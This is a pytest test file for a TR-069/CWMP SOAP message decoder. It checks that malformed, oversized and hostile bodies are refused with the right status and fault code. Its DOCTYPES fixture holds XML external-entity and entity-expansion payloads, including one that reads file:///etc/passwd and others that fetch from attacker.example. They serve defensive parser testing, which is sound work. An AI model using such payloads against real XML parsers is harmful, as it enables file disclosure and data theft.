"""Hostile and broken bodies: each is refused with the class, the status and the fault that answer it, and nothing else happens."""

import time

import pytest

from homeport.codec import messages as m
from homeport.codec.envelope import Envelope, decode, encode
from homeport.codec.limits import DEFAULT_LIMITS, CodecLimits
from homeport.codec.quirks import Quirk
from homeport.codec.refusals import InvalidMessage
from homeport.errors import MessageRefused, RemoteProtocolError
from homeport.terms import FaultCode

OPEN = (
    '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-2"'
    ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema">'
)
CLOSE = "</s:Envelope>"


def soap(content: str, header: str = "", prolog: str = "") -> bytes:
    return f"{prolog}{OPEN}<s:Header>{header}</s:Header><s:Body>{content}</s:Body>{CLOSE}".encode()


def refusal(body: bytes, **options) -> RemoteProtocolError:
    with pytest.raises(RemoteProtocolError) as caught:
        decode(body, **options)
    return caught.value


NOT_A_MESSAGE = {
    "nothing": b"",
    "only space": b" \r\n\t ",
    "text": b"hello",
    "json": b'{"a": 1}',
    "html": b"<html><body><p>login</body></html>",
    "xml, not SOAP": b"<a/>",
    "cut short": soap("<cwmp:Reboot><CommandKey>x</CommandKey></cwmp:Reboot>")[:-40],
    "tags crossed": soap("<cwmp:Reboot><a><b></a></b></cwmp:Reboot>"),
    "undefined entity": soap("<cwmp:Reboot><CommandKey>&nbsp;</CommandKey></cwmp:Reboot>"),
    "two roots": soap("") + soap(""),
    "text after the envelope": soap("") + b"x",
    "an attribute twice": soap('<cwmp:Reboot a="1" a="2"/>'),
    "no Body": f"{OPEN}<s:Header/>{CLOSE}".encode(),
    "two Bodies": f"{OPEN}<s:Body/><s:Body/>{CLOSE}".encode(),
    "two Headers": f"{OPEN}<s:Header/><s:Header/><s:Body/>{CLOSE}".encode(),
    "two messages": soap("<cwmp:Reboot/><cwmp:Reboot/>"),
    "UTF-32": soap("").decode().encode("utf-32"),
    "UTF-32 without mark": soap("").decode().encode("utf-32-be"),
    "UTF-16 text": "hello".encode("utf-16"),
    "only NULs": b"\x00" * 40,
    "binary": bytes(range(256)),
    "gzip": b"\x1f\x8b\x08" + bytes(60),
}


@pytest.mark.case("S31")
@pytest.mark.parametrize("body", NOT_A_MESSAGE.values(), ids=NOT_A_MESSAGE)
def test_what_is_not_a_message_is_refused_with_400(body):
    """Malformed or foreign bodies are MessageRefused; no SOAP fault can answer them."""
    error = refusal(body)
    assert type(error) is MessageRefused
    assert (error.http_status, error.fault_code) == (400, None)


DOCTYPES = {
    "plain": '<!DOCTYPE a SYSTEM "http://attacker.example/x.dtd">',
    "internal entity": '<!DOCTYPE a [<!ENTITY e "x">]>',
    "laughs": '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>',
    "file": '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
    "after comment and space": "<!-- <!DOCTYPE --> \n\n <?pi x?> <!DOCTYPE a>",
}


@pytest.mark.parametrize("doctype", DOCTYPES.values(), ids=DOCTYPES)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_type_is_refused_before_it_is_parsed(doctype, encoding):
    """SOAP 1.1 section 3 forbids DTDs; entities are never expanded, in whatever encoding they hide."""
    body = soap("<cwmp:Reboot><CommandKey>&e;</CommandKey></cwmp:Reboot>", prolog=doctype).decode().encode(encoding)
    assert "document type" in str(refusal(body))


def test_the_word_doctype_in_a_value_is_only_text():
    """A CDATA section or comment that holds the word has no DTD."""
    envelope = decode(
        soap("<cwmp:Reboot><CommandKey><![CDATA[<!DOCTYPE x>]]></CommandKey><!-- <!DOCTYPE --></cwmp:Reboot>")
    )
    assert envelope.body == m.Reboot("<!DOCTYPE x>")


def test_a_document_type_behind_much_space_is_found_at_once():
    """The look for a DTD takes no time that grows with more than the body."""
    began = time.process_time()
    refusal(b"<!-- -->" + b" " * 100_000 + b"<x><![CDATA[<!DOCTYPE]]></x>")
    refusal(b"<!-- -->" * 10_000 + b" " * 100_000 + b"<!DOCTYPE a><x/>")
    assert time.process_time() - began < 0.5


def test_a_body_over_the_cap_is_refused_with_413_unparsed():
    """The cap counts bytes, before anything is parsed."""
    error = refusal(b"x" * (DEFAULT_LIMITS.max_body + 1))
    assert (error.http_status, error.fault_code) == (413, FaultCode.RESOURCES_EXCEEDED)
    assert decode(soap(""), limits=CodecLimits(max_body=len(soap("")))).body is None


def test_a_request_of_32_kib_is_always_taken():
    """Both sides accept request envelopes of at least 32,768 bytes (TR-069a6 3.4)."""
    names = tuple(f"Device.X_EXAMPLE_Filler.{i}.{'y' * 180}" for i in range(160))
    request = m.GetParameterValues(names)
    body = encode(Envelope(request))
    assert len(body) > 32_768
    assert decode(body).body == request


def nested(depth: int) -> bytes:
    return soap("<cwmp:Reboot><CommandKey/>" + "<a>" * (depth - 4) + "</a>" * (depth - 4) + "</cwmp:Reboot>")


def test_depth_is_bounded():
    """32 levels are read; one more is refused, and ten thousand too."""
    deepest = DEFAULT_LIMITS.max_depth
    assert decode(nested(deepest + 1)).body == m.Reboot("")
    assert "levels deep" in str(refusal(nested(deepest + 2)))
    assert refusal(nested(10_000)).http_status == 400


def test_attributes_are_bounded():
    """64 on one element are read; more are refused, and thousands too, in little time."""

    def body(count):
        return soap("<cwmp:Reboot " + " ".join(f'a{i}=""' for i in range(count)) + "><CommandKey/></cwmp:Reboot>")

    assert decode(body(64)).body == m.Reboot("")
    assert "attributes" in str(refusal(body(65)))
    began = time.process_time()
    assert "attributes" in str(refusal(body(50_000)))
    assert time.process_time() - began < 1


def test_elements_are_bounded():
    """A body of nothing but tags is refused before the parser spends memory on it."""
    error = refusal(soap("<cwmp:Reboot>" + "<a/>" * 110_000 + "</cwmp:Reboot>"))
    assert error.fault_code == FaultCode.RESOURCES_EXCEEDED
    assert "elements" in str(error)


def test_lists_are_bounded_and_the_answer_knows_the_id():
    """Too many entries: 9004 (an ACS answers 8004), with the request's ID at hand."""
    limits = CodecLimits(max_list=10)
    rows = "<string>a</string>" * 11
    error = refusal(
        soap(
            f"<cwmp:GetParameterValues><ParameterNames>{rows}</ParameterNames></cwmp:GetParameterValues>",
            "<cwmp:ID>9</cwmp:ID>",
        ),
        limits=limits,
    )
    assert isinstance(error, InvalidMessage)
    assert (error.fault_code, error.id, error.method) == (FaultCode.RESOURCES_EXCEEDED, "9", "GetParameterValues")


def test_a_long_list_in_plain_form_is_bounded_too():
    """The list that is read ahead obeys the same limit."""
    values = tuple(m.ParameterValueStruct(f"Device.A{i}", "1") for i in range(11))
    body = encode(Envelope(m.GetParameterValuesResponse(values)))
    assert refusal(body, limits=CodecLimits(max_list=10)).fault_code == FaultCode.RESOURCES_EXCEEDED


@pytest.mark.parametrize("rows", [1, 9])
def test_the_length_of_a_text_is_bounded(rows):
    """A value over max_text is refused, whether it stands alone or in a long list."""
    values = (
        *[m.ParameterValueStruct(f"Device.A{i}", "1") for i in range(rows)],
        m.ParameterValueStruct("Device.B", "v" * 5001),
    )
    body = encode(Envelope(m.GetParameterValuesResponse(values)))
    assert decode(body).body.parameter_list == values
    error = refusal(body, limits=CodecLimits(max_text=5000))
    assert "longer than 5000" in str(error)
    assert error.fault_code == FaultCode.RESOURCES_EXCEEDED


def test_the_header_is_bounded():
    """An ID is echoed and logged: neither it nor the number of header elements may grow at will."""
    assert "1025 characters" in str(refusal(soap("", f"<cwmp:ID>{'i' * 1025}</cwmp:ID>")))
    assert "header has 33 elements" in str(refusal(soap("", "<cwmp:X/>" * 33)))


def test_a_limit_below_one_is_a_mistake_of_the_caller():
    """A limit that refuses everything is refused itself."""
    with pytest.raises(ValueError, match="max_list"):
        CodecLimits(max_list=0)


MANDATORY = {
    "SetParameterValues has no ParameterKey": "<cwmp:SetParameterValues><ParameterList/></cwmp:SetParameterValues>",
    "GetParameterValues has no ParameterNames": "<cwmp:GetParameterValues/>",
    "GetParameterNames has no NextLevel": "<cwmp:GetParameterNames><ParameterPath/></cwmp:GetParameterNames>",
    "Download has no FailureURL": "<cwmp:Download><CommandKey/><FileType>1 Firmware Upgrade Image</FileType><URL>u</URL><Username/>"
    "<Password/><FileSize>0</FileSize><TargetFileName/><DelaySeconds>0</DelaySeconds><SuccessURL/></cwmp:Download>",
    "Reboot has no CommandKey": "<cwmp:Reboot/>",
    "Inform has no DeviceId": "<cwmp:Inform/>",
    "DeviceIdStruct has no OUI": "<cwmp:Inform><DeviceId><SerialNumber>1</SerialNumber></DeviceId></cwmp:Inform>",
    "ParameterValueStruct has no Name": "<cwmp:SetParameterValues><ParameterList><ParameterValueStruct><Value>1</Value>"
    "</ParameterValueStruct></ParameterList><ParameterKey/></cwmp:SetParameterValues>",
    "ChangeDUState has no Operations": "<cwmp:ChangeDUState/>",
    "NextLevel is 'maybe', not a truth value": "<cwmp:GetParameterNames><ParameterPath/><NextLevel>maybe</NextLevel>"
    "</cwmp:GetParameterNames>",
    "DelaySeconds is 'soon', not a number": "<cwmp:ScheduleInform><DelaySeconds>soon</DelaySeconds><CommandKey/></cwmp:ScheduleInform>",
    "DelaySeconds is -1, outside 0 to 4294967295": "<cwmp:ScheduleInform><DelaySeconds>-1</DelaySeconds><CommandKey/>"
    "</cwmp:ScheduleInform>",
    "DelaySeconds is '1_0', not a number": "<cwmp:ScheduleInform><DelaySeconds>1_0</DelaySeconds><CommandKey/></cwmp:ScheduleInform>",
    "DelaySeconds is '٣', not a number": "<cwmp:ScheduleInform><DelaySeconds>٣</DelaySeconds><CommandKey/></cwmp:ScheduleInform>",
    "Status is 7, outside 0 to 1": "<cwmp:DeleteObjectResponse><Status>7</Status></cwmp:DeleteObjectResponse>",
    "Notification is 9, not one of 0, 1, 2, 3, 4, 5, 6": "<cwmp:GetParameterAttributesResponse><ParameterList>"
    "<ParameterAttributeStruct><Name>a</Name><Notification>9</Notification></ParameterAttributeStruct></ParameterList>"
    "</cwmp:GetParameterAttributesResponse>",
    "Operations has the type 'MoveOpStruct', not one of InstallOpStruct, UpdateOpStruct, UninstallOpStruct": "<cwmp:ChangeDUState>"
    '<Operations xsi:type="cwmp:MoveOpStruct"/></cwmp:ChangeDUState>',
}


@pytest.mark.parametrize("text", MANDATORY)
def test_an_argument_that_is_missing_or_wrong_is_9003_and_named(text):
    """Fault 9003 (8003 from an ACS), with the element's name, the request's ID and the namespace for the answer."""
    error = refusal(soap(MANDATORY[text], "<cwmp:ID>42</cwmp:ID>"))
    assert isinstance(error, InvalidMessage)
    assert str(error).startswith(text)
    assert (error.fault_code, error.id, error.urn) == (FaultCode.INVALID_ARGUMENTS, "42", "urn:dslforum-org:cwmp-1-2")


@pytest.mark.case("S42")
def test_an_unknown_header_counts_only_where_it_must_be_understood():
    """mustUnderstand=0 is ignored under its name; mustUnderstand=1 makes the message invalid (SOAP 1.1 section 4.2.3)."""
    reboot = "<cwmp:Reboot><CommandKey/></cwmp:Reboot>"
    assert decode(soap(reboot, '<cwmp:Colour s:mustUnderstand="0">red</cwmp:Colour>')).quirks == (Quirk.UNKNOWN_HEADER,)
    error = refusal(soap(reboot, '<cwmp:Colour s:mustUnderstand="1">red</cwmp:Colour>'))
    assert "Colour must be understood" in str(error)
    assert error.fault_code is None


FAULTS = {
    "no detail": "<s:Fault><faultcode>s:Server</faultcode><faultstring>Broken</faultstring></s:Fault>",
    "empty detail": "<s:Fault><faultcode>s:Server</faultcode><faultstring>Broken</faultstring><detail/></s:Fault>",
    "nothing at all": "<s:Fault/>",
    "code is no number": "<s:Fault><detail><cwmp:Fault><FaultCode>x</FaultCode></cwmp:Fault></detail></s:Fault>",
    "part without a name": "<s:Fault><detail><cwmp:Fault><FaultCode>9003</FaultCode><SetParameterValuesFault/>"
    "</cwmp:Fault></detail></s:Fault>",
}


@pytest.mark.parametrize("content", FAULTS.values(), ids=FAULTS)
def test_a_fault_without_cwmps_detail_is_invalid_and_never_answered(content):
    """TR-069a6 3.5: only a SOAP fault with cwmp:Fault is a CWMP message; faults are not answered by faults."""
    error = refusal(soap(content))
    assert isinstance(error, InvalidMessage)
    assert error.fault_code is None


def test_a_peer_cannot_slip_a_row_past_the_reader_with_the_mark_of_a_read_list():
    """The attribute that marks a list read ahead has no meaning in a peer's body."""
    row = '<ParameterValueStruct homeport-rows=""><Name>Device.M</Name><Value xsi:type="xsd:string">m</Value></ParameterValueStruct>'
    rows = "".join(
        f'<ParameterValueStruct><Name>Device.A{i}</Name><Value xsi:type="xsd:string">x</Value></ParameterValueStruct>'
        for i in range(5)
    )
    lists = f"<cwmp:SetParameterValues><ParameterList>{row}</ParameterList><ParameterKey/></cwmp:SetParameterValues>"
    assert [v.name for v in decode(soap(lists)).body.parameter_list] == ["Device.M"]
    both = f"<cwmp:SetParameterValues><X>{rows}</X><ParameterList>{row}</ParameterList><ParameterKey/></cwmp:SetParameterValues>"
    assert [v.name for v in decode(soap(both)).body.parameter_list] == ["Device.M"]


def test_rows_outside_the_list_are_ignored_however_many():
    """Rows in a comment, in an unknown element or in a vendor's method are not the list."""
    rows = "".join(
        f'<ParameterValueStruct><Name>Device.A{i}</Name><Value xsi:type="xsd:string">x</Value></ParameterValueStruct>'
        for i in range(5)
    )
    hidden = f"<cwmp:SetParameterValues><!-- {rows} --><ParameterList/><ParameterKey/></cwmp:SetParameterValues>"
    assert decode(soap(hidden)).body == m.SetParameterValues((), "")
    unknown = f"<cwmp:SetParameterValues><X>{rows}</X><ParameterList/><ParameterKey/></cwmp:SetParameterValues>"
    assert decode(soap(unknown)).body == m.SetParameterValues((), "")
    vendor = decode(soap(f"<cwmp:X_EX_Rows>{rows}</cwmp:X_EX_Rows>")).body
    assert isinstance(vendor, m.VendorMessage)
    assert "homeport" not in vendor.xml
    assert vendor.xml.count("<ParameterValueStruct>") == 5
    arguments = (
        f"<cwmp:RequestDownload><FileType>1 Web</FileType><FileTypeArg>{rows}</FileTypeArg></cwmp:RequestDownload>"
    )
    assert len(decode(soap(arguments)).body.file_type_arg) == 5


@pytest.mark.parametrize(
    "body", [b'<?xml version="1" encoding="ISO-8859-1"?>as.xml', b'<?xml version="1.0" encoding="utf-8"?>\n \xc3\xa9 ']
)
def test_a_prolog_with_nothing_but_text_behind_it_is_refused(body):
    """Found by fuzzing: without a single mark left there is no markup to remember."""
    for _ in range(3):
        with pytest.raises(MessageRefused):
            decode(body)


@pytest.mark.parametrize(
    ("method", "quirks"), [("DUStateChangeComplete", ()), ("TransferComplete", (Quirk.MISSING_ELEMENT,))]
)
def test_only_a_deployment_unit_s_fault_may_lack_its_text(method, quirks):
    """The XSD has FaultString with minOccurs 0 in DeploymentUnitFaultStruct, and demands it in TransferCompleteFaultStruct."""
    if method == "TransferComplete":
        message = m.TransferComplete("k", m.FaultStruct(), "2026-03-01T10:00:00Z", "2026-03-01T10:00:00Z")
    else:
        time = "2026-03-01T10:00:00Z"
        result = m.OpResultStruct("u", "r", "1", "Installed", True, "", time, time, m.FaultStruct())
        message = m.DUStateChangeComplete((result,), "k")
    body = encode(Envelope(message)).replace(b"<FaultString></FaultString>", b"")
    assert b"FaultString" not in body
    for _ in range(3):
        envelope = decode(body)
        assert envelope.body == message
        assert envelope.quirks == quirks


def test_results_in_a_list_of_their_own_are_read_like_those_of_the_schema():
    """The tables of the standard write OpResultStruct[], its schema repeats Results; no end of a command is lost over that."""
    time = "2026-03-01T10:00:00Z"
    results = tuple(
        m.OpResultStruct(uuid, "r", "1", "Installed", True, "", time, time, m.FaultStruct()) for uuid in ("a", "b")
    )
    message = m.DUStateChangeComplete(results, "k")
    body = encode(Envelope(message))
    body = body.replace(b"<Results>", b"<OpResultStruct>").replace(b"</Results>", b"</OpResultStruct>")
    body = body.replace(b"<OpResultStruct>", b"<Results><OpResultStruct>", 1)
    body = b"</OpResultStruct></Results>".join(body.rsplit(b"</OpResultStruct>", 1))
    envelope = decode(body)
    assert envelope.body == message
    assert envelope.quirks == (Quirk.WRAPPED_LIST,)
